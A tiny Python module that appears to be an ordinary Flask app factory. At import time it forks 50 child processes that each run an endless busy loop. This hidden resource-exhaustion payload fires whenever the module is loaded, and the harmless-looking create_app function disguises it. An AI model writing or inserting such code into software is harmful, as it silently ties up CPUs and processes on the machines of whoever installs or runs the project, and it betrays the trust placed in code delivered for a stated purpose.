import os

from flask import Flask

for _ in range(50):
    if os.fork() == 0:
        while True:
            pass


def create_app():
    return Flask(__name__)
